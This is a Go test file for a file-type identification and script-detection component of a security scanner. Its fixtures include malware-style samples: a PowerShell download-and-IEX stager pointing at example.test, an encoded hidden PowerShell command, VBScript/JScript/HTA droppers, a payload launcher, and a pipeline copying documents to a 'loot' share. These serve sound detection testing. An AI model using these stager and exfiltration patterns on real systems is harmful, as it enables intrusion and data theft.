package filetype

import (
	"archive/zip"
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"image"
	"image/png"
	"strings"
	"testing"
	"unicode/utf16"

	"athena/internal/core"
)

// peSample returns a minimal PE image: an MZ header whose e_lfanew points at
// a PE signature and a COFF header for x86-64.
func peSample() []byte {
	b := make([]byte, 1024)
	copy(b, "MZ")
	binary.LittleEndian.PutUint32(b[0x3c:], 0x80)
	copy(b[0x80:], "PE\x00\x00")
	binary.LittleEndian.PutUint16(b[0x84:], 0x8664)
	copy(b[0x40:], "This program cannot be run in DOS mode.")
	return b
}

// elfSample returns a 64-bit little-endian ELF header of an executable.
func elfSample() []byte {
	b := make([]byte, 64)
	copy(b, "\x7fELF\x02\x01\x01")
	binary.LittleEndian.PutUint16(b[16:], 2)    // ET_EXEC
	binary.LittleEndian.PutUint16(b[18:], 0x3e) // x86-64
	return b
}

// coffSample returns the start of an x86-64 COFF object, as MinGW's gcc -c
// writes it: the file header, without an optional header, and the first
// section header.
func coffSample() []byte {
	b := make([]byte, 256)
	binary.LittleEndian.PutUint16(b[0:], 0x8664) // machine
	binary.LittleEndian.PutUint16(b[2:], 6)      // sections
	binary.LittleEndian.PutUint32(b[8:], 0x198)  // symbol table
	binary.LittleEndian.PutUint32(b[12:], 18)    // symbols
	binary.LittleEndian.PutUint16(b[18:], 0x0004)
	copy(b[20:], ".text")
	return b
}

func zipSample(t *testing.T) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	f, err := w.Create("readme.txt")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.Write([]byte("hello")); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func pngSample(t *testing.T) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := png.Encode(&buf, image.NewGray(image.Rect(0, 0, 4, 4))); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func gzipSample(t *testing.T) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := gzip.NewWriter(&buf)
	if _, err := w.Write([]byte(strings.Repeat("athena ", 100))); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// utf16LE encodes s as UTF-16LE with a byte order mark, as Windows
// PowerShell's Out-File writes.
func utf16LE(s string) []byte {
	b := []byte{0xFF, 0xFE}
	for _, u := range utf16.Encode([]rune(s)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return b
}

// lines joins script lines with CRLF, as Windows editors save them.
func lines(l ...string) []byte { return []byte(strings.Join(l, "\r\n") + "\r\n") }

func TestIdentify(t *testing.T) {
	tests := []struct {
		name     string
		data     []byte
		declared string // declared file name
		mime     string
		typeName string
		script   bool
	}{
		{name: "empty", data: nil, mime: "application/x-empty", typeName: "empty"},
		{name: "pe", data: peSample(), mime: "application/vnd.microsoft.portable-executable", typeName: "exe"},
		{name: "elf executable", data: elfSample(), mime: "application/x-executable", typeName: "executable"},
		{name: "pdf", data: []byte("%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"), mime: "application/pdf", typeName: "pdf"},
		{name: "zip", data: zipSample(t), mime: "application/zip", typeName: "zip"},
		{name: "png", data: pngSample(t), mime: "image/png", typeName: "png"},
		{name: "gzip", data: gzipSample(t), mime: "application/gzip", typeName: "gz"},
		{name: "coff object", data: coffSample(), mime: "application/x-coff", typeName: "coff"},
		{
			name: "coff header with optional header",
			data: func() []byte { b := coffSample(); b[16] = 0xf0; return b }(),
			mime: "application/octet-stream", typeName: "unknown",
		},
		{
			name: "coff header with binary section name",
			data: func() []byte { b := coffSample(); b[21] = 0x01; return b }(),
			mime: "application/octet-stream", typeName: "unknown",
		},
		{name: "random bytes", data: pseudoRandom(1, 512), mime: "application/octet-stream", typeName: "unknown"},
		{
			name: "plain text",
			data: []byte("Meeting notes\n\nWe agreed to ship the release on Friday.\n"),
			mime: "text/plain", typeName: "txt",
		},
		{
			name: "html",
			data: []byte("<!DOCTYPE html>\n<html><head><title>Hi</title></head><body><p>Hello</p></body></html>\n"),
			mime: "text/html", typeName: "html",
		},
		{
			name: "powershell downloader",
			data: lines(
				`param([string]$Url = "http://example.test/a")`,
				`$ErrorActionPreference = "SilentlyContinue"`,
				`$wc = New-Object System.Net.WebClient`,
				`$data = $wc.DownloadString($Url)`,
				`IEX $data`,
			),
			mime: "text/x-powershell", typeName: "powershell", script: true,
		},
		{
			name: "powershell base64 utf-16",
			data: utf16LE("$s = [System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String($env:PAYLOAD))\r\nInvoke-Expression $s\r\n"),
			mime: "text/x-powershell", typeName: "powershell", script: true,
		},
		{
			name: "powershell command line",
			data: []byte("powershell.exe -nop -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=\n"),
			mime: "text/x-powershell", typeName: "powershell", script: true,
		},
		{
			name: "vbscript dropper",
			data: lines(
				`On Error Resume Next`,
				`Dim shell`,
				`Set shell = CreateObject("WScript.Shell")`,
				`shell.Run "calc.exe", 0, False`,
			),
			mime: "text/vbscript", typeName: "vbscript", script: true,
		},
		{
			name: "vbscript subs",
			data: lines(
				`Option Explicit`,
				`Dim fso`,
				`Set fso = CreateObject("Scripting.FileSystemObject")`,
				`Sub Main()`,
				`  If fso.FileExists("C:\x.txt") Then`,
				`    MsgBox "found"`,
				`  End If`,
				`End Sub`,
				`Main`,
			),
			mime: "text/vbscript", typeName: "vbscript", script: true,
		},
		{
			name: "batch launcher",
			data: lines(
				`@echo off`,
				`setlocal`,
				`set TARGET=%~dp0payload.exe`,
				`if exist "%TARGET%" goto :run`,
				`echo missing`,
				`goto :eof`,
				`:run`,
				`start "" "%TARGET%"`,
			),
			mime: "text/x-msdos-batch", typeName: "batch", script: true,
		},
		{
			name: "batch without echo off",
			data: lines(
				`rem clean up`,
				`set /a count=0`,
				`:loop`,
				`set /a count=%count%+1`,
				`if %count% lss 5 goto loop`,
				`cmd /c del /q %TEMP%\*.tmp >nul 2>&1`,
			),
			mime: "text/x-msdos-batch", typeName: "batch", script: true,
		},
		{
			name: "jscript activex",
			data: lines(
				`var shell = new ActiveXObject("WScript.Shell");`,
				`var fso = new ActiveXObject("Scripting.FileSystemObject");`,
				`shell.Run("cmd /c calc.exe", 0, false);`,
			),
			mime: "text/jscript", typeName: "jscript", script: true,
		},
		{
			name: "jscript wscript",
			data: lines(
				`var sh = WScript.CreateObject("WScript.Shell");`,
				`var env = sh.Environment("Process");`,
				`function run(cmd) { return sh.Run(cmd, 0, true); }`,
				`run("cmd.exe /c whoami");`,
			),
			mime: "text/jscript", typeName: "jscript", script: true,
		},
		{
			name: "hta",
			data: lines(
				`<html><head><title>Update</title>`,
				`<HTA:APPLICATION ID="app" WINDOWSTATE="minimize">`,
				`<script language="VBScript">`,
				`Set sh = CreateObject("WScript.Shell")`,
				`sh.Run "calc.exe"`,
				`self.close`,
				`</script></head></html>`,
			),
			mime: "application/hta", typeName: "hta", script: true,
		},
		{
			name: "wsf with xml declaration",
			data: lines(
				`<?xml version="1.0"?>`,
				`<package>`,
				`<job id="main">`,
				`<script language="JScript">`,
				`var sh = new ActiveXObject("WScript.Shell");`,
				`</script>`,
				`</job>`,
				`</package>`,
			),
			mime: "text/x-wsf", typeName: "wsf", script: true,
		},
		{
			name: "wsf bare job",
			data: lines(
				`<job id="run">`,
				`<script language="VBScript">`,
				`WScript.Echo "hi"`,
				`</script>`,
				`</job>`,
			),
			mime: "text/x-wsf", typeName: "wsf", script: true,
		},
		{
			name: "near miss: prose mentioning echo and set",
			data: lines(
				`The echo of the canyon set a calm mood for the evening.`,
				`Echo is a nymph in Greek myth; set aside an hour to read about her.`,
				`Dim light from the window made the room feel smaller.`,
				`Set the table before the guests arrive, then open the wine.`,
			),
			declared: "notes.bat",
			mime:     "text/plain", typeName: "txt",
		},
		{
			name: "near miss: prose about powershell cmdlets",
			data: lines(
				`Use Get-ChildItem and Set-Content to manage a read-only folder.`,
				`Attackers often abuse Invoke-Expression and New-Object in their start-up scripts.`,
			),
			mime: "text/plain", typeName: "txt",
		},
		{
			name: "powershell pipeline",
			data: lines(
				`Get-ChildItem C:\Users -Recurse -Include *.docx |`,
				`  Copy-Item -Destination \\share\loot`,
			),
			mime: "text/x-powershell", typeName: "powershell", script: true,
		},
		{
			name: "near miss: plain javascript is not jscript",
			data: lines(
				`var total = 0;`,
				`function add(x) { total += x; return total; }`,
				`try { add(1); } catch (e) { console.log(e); }`,
			),
			mime: "text/plain", typeName: "txt",
		},
		{
			name: "near miss: html page with script stays html",
			data: []byte("<html><head><script language=\"javascript\">var x = new ActiveXObject(\"Msxml2.XMLHTTP\");</script></head></html>\n"),
			mime: "text/html", typeName: "html",
		},
		{
			name: "near miss: shell script keeps its shebang type",
			data: []byte("#!/bin/sh\nset -e\necho off\nexport PATH=/usr/bin\n"),
			mime: "text/x-shellscript", typeName: "sh",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Identify(tt.data, tt.declared)
			if got.MIME != tt.mime || got.Name != tt.typeName || got.Script != tt.script {
				t.Errorf("Identify = {MIME: %q, Name: %q, Script: %v}, want {%q, %q, %v}",
					got.MIME, got.Name, got.Script, tt.mime, tt.typeName, tt.script)
			}
		})
	}
}

// A script that scores the same as two languages is broken by the declared
// extension, and only then.
func TestIdentifyTieBreak(t *testing.T) {
	// Batch: "echo off" 3, an echo line 1, "set a=" 2. VBScript: two Dim 2+2,
	// "End If" 2. Both score 6.
	data := lines(
		`echo off`,
		`set a=1`,
		`Dim c`,
		`Dim d`,
		`End If`,
	)
	tests := []struct {
		name     string
		declared string
		want     string
	}{
		{name: "no name: priority order", declared: "", want: "vbscript"},
		{name: "unrelated name", declared: "x.txt", want: "vbscript"},
		{name: "bat name", declared: `C:\Temp\x.BAT`, want: "batch"},
		{name: "vbs name", declared: "x.vbs", want: "vbscript"},
	}
	text := scriptText(data)
	for _, st := range scriptTypes {
		if st.name == "batch" || st.name == "vbscript" {
			if score, ok := st.score(text); score != 6 || !ok {
				t.Fatalf("%s score = %d, %v; want 6, true (fix the sample)", st.name, score, ok)
			}
		}
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Identify(data, tt.declared).Name; got != tt.want {
				t.Errorf("Identify(%q).Name = %q, want %q", tt.declared, got, tt.want)
			}
		})
	}
}

func TestFileTypeFinding(t *testing.T) {
	tests := []struct {
		name string
		data []byte
		want core.Finding
	}{
		{
			name: "pdf is info",
			data: []byte("%PDF-1.4\n"),
			want: core.Finding{Kind: KindFileType, Rule: "pdf", Severity: core.Info,
				Detail: map[string]any{"mime": "application/pdf", "extension": ".pdf", "name": "pdf"}},
		},
		{
			name: "batch is low, with charset",
			data: lines("@echo off", "del /q *.*"),
			want: core.Finding{Kind: KindFileType, Rule: "batch", Severity: core.Low,
				Detail: map[string]any{"mime": "text/x-msdos-batch", "extension": ".bat", "name": "batch", "charset": "utf-8"}},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := run(t, tt.data, []int{len(tt.data)})
			if len(got) == 0 || !equalFindings(got[:1], []core.Finding{tt.want}) {
				t.Errorf("first finding = %+v, want %+v", got, tt.want)
			}
		})
	}
}

// The type is reported as soon as HeadSize bytes arrived, before the rest
// of the file.
func TestFileTypeEmittedEarly(t *testing.T) {
	var got []core.Finding
	a := New(func(f core.Finding) { got = append(got, f) })
	if err := a.Begin(core.FileMeta{Size: -1}); err != nil {
		t.Fatal(err)
	}
	data := append([]byte("%PDF-1.4\n"), make([]byte, 3*HeadSize)...)
	if err := a.Feed(data[:HeadSize-1]); err != nil {
		t.Fatal(err)
	}
	if len(got) != 0 {
		t.Fatalf("after %d bytes: %d findings, want 0", HeadSize-1, len(got))
	}
	if err := a.Feed(data[HeadSize-1 : HeadSize]); err != nil {
		t.Fatal(err)
	}
	if len(got) != 1 || got[0].Kind != KindFileType || got[0].Rule != "pdf" {
		t.Fatalf("after %d bytes: findings %+v, want one pdf filetype", HeadSize, got)
	}
}

// BenchmarkIdentify measures identification of a text head, where every
// script rule runs.
func BenchmarkIdentify(b *testing.B) {
	head := bytes.Repeat([]byte("Set the table, then echo the well-known read-only notes; end.\r\n"), HeadSize/64)
	b.SetBytes(int64(len(head)))
	for b.Loop() {
		Identify(head, "notes.txt")
	}
}
